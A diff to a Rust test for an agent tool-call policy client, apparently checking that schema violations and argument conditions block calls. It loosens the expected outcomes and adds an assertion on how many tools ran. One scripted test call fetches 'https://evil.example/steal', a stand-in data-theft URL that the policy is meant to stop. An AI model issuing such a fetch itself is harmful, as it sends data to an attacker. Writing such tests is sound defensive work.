@@ -186,8 +186,16 @@ fn schema_violations_and_argument_conditions_decide_calls() {
         [call("fetch", json!({"url": "https://evil.example/steal"}))]
     ]);
     let client = run_policy_client(Sdk::Python, &server.url(), &script, None);
+    // Reset mode is reactive: the server's own argument validation can answer an invalid call
+    // (a tool error, nothing ran) before the reset lands. Either way the call did not run.
+    let mut got = outcomes(&client);
+    for s in got.iter_mut().take(4).skip(1) {
+        if s[1] == "tool_error" {
+            s[1] = "connection_error".into();
+        }
+    }
     assert_eq!(
-        outcomes(&client),
+        got,
         vec![
             vec!["ok", "ok"],
             vec!["ok", "connection_error"],
@@ -198,6 +206,7 @@ fn schema_violations_and_argument_conditions_decide_calls() {
         ],
         "{client}"
     );
+    assert_eq!(tools_run(&server, "note"), 1, "{:?}", server.executions());
     let records = agent.stop();
     let verdicts: Vec<&Value> = of_type(&records, "verdict")
         .into_iter()
